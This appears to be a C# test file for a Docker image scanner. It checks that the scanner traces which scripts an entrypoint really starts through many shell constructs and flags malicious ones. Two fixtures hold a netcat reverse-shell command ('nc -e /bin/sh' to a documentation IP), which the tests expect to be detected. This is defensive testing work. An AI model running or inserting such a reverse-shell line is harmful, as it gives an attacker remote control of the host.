using System.Globalization;
using DockerScan.Core.Findings;
using DockerScan.Core.Images;
using DockerScan.Core.Stages;
using DockerScan.TestKit.Content;
using static DockerScan.Scanners.Tests.Autorun.AutorunBed;

namespace DockerScan.Scanners.Tests.Autorun;

/// <summary>What is really started is listed, however an entrypoint comes to it; and where that is not certain, that is said.</summary>
public sealed class StartChainTests
{
    private const string Target = "/opt/app/start.sh";

    /// <summary>The body of an entrypoint that starts /opt/app/start.sh, with a neighbour of another shape in each group.</summary>
    public static TheoryData<string> Starting =>
    [
        // Brackets that are no arithmetic.
        "((sleep 1 &) &)\nexec /opt/app/start.sh",
        "( (sleep 1) )\n((i=1))\n/opt/app/start.sh",
        "echo $[1<<2]\nexec /opt/app/start.sh",
        "for ((i=1<<2; i<9; i++)); do :; done\nexec /opt/app/start.sh",
        "x=$((1<<2))\nexec /opt/app/start.sh",
        "if (( $(id -u) == 0 )); then /opt/app/start.sh; fi",
        "[[ $(/opt/app/start.sh) == x ]] || true",
        "x=$(( $(/opt/app/start.sh) + 1 ))",
        "((/opt/app/start.sh))",
        // What a function is given.
        "as_app() { su -s /bin/sh app -c \"$1\"; }\nas_app /opt/app/start.sh",
        "as_app() { \"$@\"; }\nas_app /opt/app/start.sh --port 1",
        "main() { run /opt/app/start.sh; }\nrun() {\n  local what=\"$1\"; shift\n  exec \"$what\" \"$@\"\n}\nmain \"$@\"",
        "function go {\n  if true; then exec ${1}; fi\n}\ngo /opt/app/start.sh",
        "go() ( cd /opt/app && \"./$1\" )\ngo start.sh",
        "alias go='exec /opt/app/start.sh'\ngo",
        "alias go=exec\ngo /opt/app/start.sh",
        "retry() { until \"$@\"; do sleep 1; done; }\nstart() { \"$1/start.sh\"; }\nretry start /opt/app",
        // The script's own folder.
        "D=\"$( cd \"$( dirname \"${BASH_SOURCE[0]}\" )\" >/dev/null 2>&1 && pwd )\"\nexec \"$D/opt/app/start.sh\"",
        "D=`dirname \"$0\"`\nexec $D/opt/app/start.sh",
        "D=$(dirname -- \"$(readlink -f -- \"$0\")\")\nexec \"$D/opt/app/start.sh\"",
        "pushd \"$(dirname \"${BASH_SOURCE}\")\" > /dev/null\nD=$(pwd)\npopd > /dev/null\n\"${D}opt/app/start.sh\"",
        "D=${BASH_SOURCE[0]%/*}\ncd \"$D/opt/app\" && exec ./start.sh",
        "HERE=$(realpath \"$(dirname \"$0\")\")\n. \"$HERE/opt/app/start.sh\"",
        // Arguments with something done to them.
        "exec \"${1:-/opt/app/start.sh}\"",
        "exec \"${@:-/opt/app/start.sh}\"",
        "exec ${*:-/opt/app/start.sh}",
        "set -- \"${@:-/opt/app/start.sh}\"\nexec \"$@\"",
        "set -- /opt/app/start.sh \"$@\"\nexec \"$@\"",
        "set /opt/app/start.sh\nexec \"$1\"",
        "X=--/opt/app/start.sh\nexec \"${X#--}\"",
        "X=/opt/app/start.sh.bak\nexec \"${X%.bak}\"",
        "X=/opt/app/x/y\nexec \"${X%%/x*}/start.sh\"",
        "X=/old/app\nexec \"${X/old/opt}/start.sh\"",
        "NAME=TARGET\nTARGET=/opt/app/start.sh\nexec \"${!NAME}\"",
        // PATH.
        "export PATH=/opt/app:$PATH\nexec start.sh",
        "PATH=\"$UNKNOWN/bin:/opt/app:$PATH\"\nstart.sh",
        "PATH=$PATH:/opt/app start.sh",
        // Arrays.
        "run() { local CMD=(/opt/app/start.sh -x); \"${CMD[@]}\"; }\nrun",
        "declare -a CMD=(env A=1)\nCMD+=(/opt/app/start.sh)\nexec \"${CMD[@]}\"",
        "readonly CMD=(/opt/app/start.sh)\n${CMD[0]}",
        "CMD[0]=/opt/app/start.sh\n\"${CMD[@]}\"",
        // Several files by one word.
        "cd /opt/app\nfor f in *.sh; do sh \"$f\"; done",
        "run-parts /opt/app",
        "run-parts --regex '.*' --exit-on-error /opt/app/",
        "find /opt/app -type f -exec sh {} \\;",
        "find /opt -name '*.sh' -exec bash -e {} +",
        "find /opt -type f -perm -100 | sort | while read -r f; do \"$f\"; done",
        "find /opt -name 'st*' -print0 | xargs -0 -n 1 sh",
        "ls /opt/app/*.sh | xargs -I % sh %",
        "for f in $(find /opt -name '*.sh'); do $f; done",
        "for f in $(ls /opt/app); do . /opt/app/$f; done",
        "for d in /opt/*/; do sh \"$d/start.sh\"; done",
        "for f in /opt/app/{first,start}.sh; do sh $f; done",
        "process() { for f; do . \"$f\"; done; }\nprocess /opt/app/*",
        // Text that a shell is given.
        "sh <<EOF\n/opt/app/start.sh\nEOF",
        "su app <<'EOF'\nexec /opt/app/start.sh\nEOF",
        "bash -s -- x <<-EOF\n\t/opt/app/start.sh \"$1\"\n\tEOF",
        "cat <<EOF\n$(/opt/app/start.sh)\nEOF",
        "sh <<< '/opt/app/start.sh'",
        "echo 'exec /opt/app/start.sh' | sh",
        "cat /opt/app/start.sh | sh -s -- x",
        "sh < /opt/app/start.sh",
        "eval \"$(echo /opt/app/start.sh)\"",
        "X=$(cat <<EOF\nit's\nEOF\n)\nexec /opt/app/start.sh",
        "Y=$(case x in a) echo b;; esac)\nexec /opt/app/start.sh",
        "env -S 'sh /opt/app/start.sh'",
        "env -u A -iS'-u B /opt/app/start.sh'",
        // A loop of more than a few.
        "for f in /a /b /c /d /e /f /g /h /i /opt/app/start.sh /k /l; do [ -f $f ] && $f; done",
        "~/../opt/app/start.sh",
    ];

    [Theory]
    [MemberData(nameof(Starting))]
    public async Task ScanAsync_Entrypoint_ListsWhatItStarts(string body)
    {
        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/entry.sh"] }, System().File("/entry.sh", "#!/bin/bash\n" + body + "\n"));

        Assert.Equal((Target, false), outcome.Autorun.Where(file => file.Path == Target).Select(file => (file.Path, file.MayStart)).SingleOrDefault());
        Assert.Null(outcome.Reason);
        Assert.Equal(StageOutcome.Completed, outcome.Outcome);
    }

    [Theory]
    [InlineData("/opt/conf/*")]
    [InlineData("/opt/conf/??-*")]
    [InlineData("/opt/conf/10-*")]
    [InlineData("/opt/conf/[0-9]0-env")]
    public async Task ScanAsync_FilesThatAreReadIn_AreListedWhateverTheirNameAndMode(string pattern)
    {
        var content = System().File("/opt/conf/10-env", "nc -e /bin/sh 198.51.100.7 4444\n", 0b110_100_100)
            .File("/entry.sh", $"#!/bin/sh\nfor f in {pattern}; do . \"$f\"; done\n");

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/entry.sh"] }, content);

        Assert.Contains(outcome.Autorun, file => file is { Path: "/opt/conf/10-env", MayStart: false });
        Assert.Equal("/opt/conf/10-env", Finding(outcome, "reverse-shell.netcat-exec").Location);
    }

    [Theory]
    [InlineData("run_app() { exec \"$1\"; }", "run_app /opt/app/start.sh")]
    [InlineData("DAEMON=/opt/app/start.sh", "exec $DAEMON")]
    [InlineData("CMD=(/opt/app/start.sh)", "\"${CMD[@]}\"")]
    public async Task ScanAsync_WhatAFileThatIsReadInDefines_IsKnownBehindIt(string library, string use)
    {
        var content = System().File("/opt/lib.sh", library + "\n").File("/entry.sh", $"#!/bin/bash\n. /opt/lib.sh\n{use}\n");

        Assert.Contains((await ScanAsync(new ImageConfiguration { Entrypoint = ["/entry.sh"] }, content)).Autorun, file => file is { Path: Target, MayStart: false });
    }

    [Fact]
    public async Task ScanAsync_VariableOfTheStartingScript_IsKnownInTheStartedOne()
    {
        var content = System().File("/run.sh", "#!/bin/sh\nexec \"$APP/start.sh\"\n").File("/entry.sh", "#!/bin/sh\nexport APP=/opt/app\nexec /run.sh\n");

        Assert.Contains(Target, Paths(await ScanAsync(new ImageConfiguration { Entrypoint = ["/entry.sh"] }, content)));
    }

    // The engine's own PATH is there before the script puts a folder in front of it.
    [Fact]
    public async Task ScanAsync_PathOfTheEngineBehindOneOfTheScript_IsStillSearched()
    {
        var paths = Paths(await ScanAsync(new ImageConfiguration { Entrypoint = ["/entry.sh"] }, System().File("/entry.sh", "#!/bin/sh\nexport PATH=/opt/app:$PATH\nstart.sh\nnginx\n")));

        Assert.Contains(Target, paths);
        Assert.Contains("/usr/bin/nginx", paths);
    }

    // Each holds the text of all that stand in it: bounded, and said.
    [Fact]
    public async Task ScanAsync_FunctionsInFunctions_KeepABoundedText()
    {
        var body = string.Concat(Enumerable.Range(0, 1500).Select(i => string.Create(CultureInfo.InvariantCulture, $"f{i}() {{\n: {new string('x', 300)}\n"))) + string.Concat(Enumerable.Repeat("}\n", 1500)) + "/opt/app/start.sh\n";

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/entry.sh"] }, System().File("/entry.sh", "#!/bin/sh\n" + body));

        Assert.Equal(StageOutcome.Partial, outcome.Outcome);
        Assert.Contains(Target, Paths(outcome));
    }

    [Theory]
    [InlineData("dockerize", "-wait", "tcp://db:5432", "-timeout", "20s", Target)]
    [InlineData("xvfb-run", "-a", "start.sh")]
    [InlineData("my-supervisor", "--command=" + Target)]
    [InlineData("wait-for", "db:5432", "--", "sh -c '" + Target + " --verbose'")]
    [InlineData("/usr/local/bin/dockerize", "../opt/app/start.sh")]
    public async Task ScanAsync_WordBehindAnUnknownProgram_MayStart(params string[] words)
    {
        var content = System().File("/usr/local/bin/" + words[0].Split('/')[^1], Program()).File("/usr/local/bin/start.sh", "#!/bin/sh\n/opt/app/start.sh\n");

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = words, WorkingDirectory = "/srv" }, content);

        Assert.True(Assert.Single(outcome.Autorun, file => file.Path == Target).MayStart);
        Assert.Equal(StageOutcome.Completed, outcome.Outcome);
    }

    [Theory]
    [InlineData("tmux new-session -d /opt/app/start.sh")]
    [InlineData("cpulimit -l 50 -- /opt/app/start.sh")]
    [InlineData("opentelemetry-instrument --x y /opt/app/start.sh")]
    public async Task ScanAsync_WordInALineOfAScript_MayStart(string line)
    {
        var content = System().File("/entry.sh", $"#!/bin/sh\n{line}\n").File("/usr/bin/" + line.Split(' ')[0], Program());

        Assert.True(Assert.Single((await ScanAsync(new ImageConfiguration { Entrypoint = ["/entry.sh"] }, content)).Autorun, file => file.Path == Target).MayStart);
    }

    [Theory]
    [InlineData("chmod +x /opt/app/start.sh")]
    [InlineData("[ -x /opt/app/start.sh ] && true")]
    [InlineData("echo /opt/app/start.sh")]
    [InlineData("cp /opt/app/start.sh /srv/")]
    [InlineData("sed -i s/a/b/ /opt/app/start.sh")]
    [InlineData("X=/opt/app/start.sh")]
    [InlineData("# /opt/app/start.sh")]
    [InlineData("cat > /tmp/x <<'EOF'\n/opt/app/start.sh\nEOF")]
    public async Task ScanAsync_WordThatIsOnlyNamed_IsNotListed(string line)
        => Assert.DoesNotContain(Target, Paths(await ScanAsync(new ImageConfiguration { Entrypoint = ["/entry.sh"] }, System().File("/entry.sh", $"#!/bin/sh\n{line}\n"))));

    [Theory]
    [InlineData("/usr/bin/env", "-S", "sh " + Target)]
    [InlineData("env", "-S", "A=1 sh -e " + Target)]
    [InlineData("env", "--split-string=sh " + Target)]
    [InlineData("env", "-vS", "'" + Target + "' -x")]
    public async Task ScanAsync_EnvThatSplits_IsLookedThroughAndMissesNothing(params string[] words)
    {
        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = words }, System());

        Assert.False(Assert.Single(outcome.Autorun, file => file.Path == Target).MayStart);
        IsQuiet(outcome);
    }

    [Theory]
    [InlineData("#!/usr/bin/env -Ssh -e")]
    [InlineData("#!/usr/bin/env -S sh -e")]
    [InlineData("#!/usr/bin/env -S -i PATH=/bin sh")]
    public async Task ScanAsync_EnvThatSplitsInAFirstLine_IsRead(string line)
        => Assert.Contains(Target, Paths(await ScanAsync(new ImageConfiguration { Entrypoint = ["/entry.sh"] }, System().File("/entry.sh", line + "\nexec /opt/app/start.sh\n"))));

    [Fact]
    public async Task ScanAsync_MalwareThatMayStart_IsMediumAndNoMalware()
    {
        var content = System().File("/usr/bin/dockerize", Program()).File("/opt/evil.sh", "#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4444\n");

        var may = Finding(await ScanAsync(new ImageConfiguration { Entrypoint = ["dockerize", "/opt/evil.sh"] }, content), "reverse-shell.netcat-exec");
        var does = Finding(await ScanAsync(new ImageConfiguration { Entrypoint = ["/opt/evil.sh"] }, content), "reverse-shell.netcat-exec");

        Assert.Equal((Severity.Medium, "autorun.file"), (may.Severity, may.Check));
        Assert.Equal((Severity.Critical, "autorun.malware"), (does.Severity, does.Check));
    }

    [Fact]
    public async Task ScanAsync_NamedAndThenStarted_IsStarted()
    {
        var content = System().File("/usr/bin/dockerize", Program()).File("/entry.sh", "#!/bin/sh\ndockerize /opt/app/start.sh\n/opt/app/start.sh\n");

        Assert.False(Assert.Single((await ScanAsync(new ImageConfiguration { Entrypoint = ["/entry.sh"] }, content)).Autorun, file => file.Path == Target).MayStart);
    }

    [Theory]
    [InlineData("echo 'open\nexec /opt/app/start.sh", "a quote in line 2")]
    [InlineData("cat <<EOF\nexec /opt/app/start.sh", "a here-document in line 2")]
    [InlineData("x=${y\nexec /opt/app/start.sh", "an expansion in line 2")]
    [InlineData("[[ -f x\nexec /opt/app/start.sh", "a test in line 2")]
    [InlineData("X=(a\nexec /opt/app/start.sh", "an array in line 2")]
    [InlineData("case x in\n/opt/app/start.sh", "a case in line 2")]
    public async Task ScanAsync_SomethingWithoutItsEnd_IsAGapAndHidesNothing(string body, string lost)
    {
        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/entry.sh"] }, System().File("/entry.sh", "#!/bin/bash\n" + body + "\n"));

        Assert.Equal((StageOutcome.Partial, GapKind.StartChainCut), (outcome.Outcome, Assert.Single(outcome.Gaps).Kind));
        Assert.Equal($"/entry.sh: {lost} has no end, so what stands behind it may have been read wrongly", outcome.Reason);
        Assert.Contains(Target, Paths(outcome));
    }

    [Theory]
    [InlineData("X='sh -c \"$X\"'\nsh -c \"$X\"")]
    [InlineData("f() { f \"$1\"; g \"$@\" x; }\ng() { f \"$@\"; }\nf a")]
    [InlineData("alias a=b\nalias b=a\na x")]
    public async Task ScanAsync_TextThatNamesItself_Ends(string body)
        => Assert.Contains("/entry.sh", Paths(await ScanAsync(new ImageConfiguration { Entrypoint = ["/entry.sh"] }, System().File("/entry.sh", "#!/bin/bash\n" + body + "\n"))));

    private static FakeImageContent System()
        => UsualSystem().File(Target, "#!/bin/sh\necho payload\n").Directory("/srv").Directory("/root").File("/usr/bin/run-parts", Program()).File("/usr/bin/xargs", Program()).File("/usr/bin/su", Program());
}
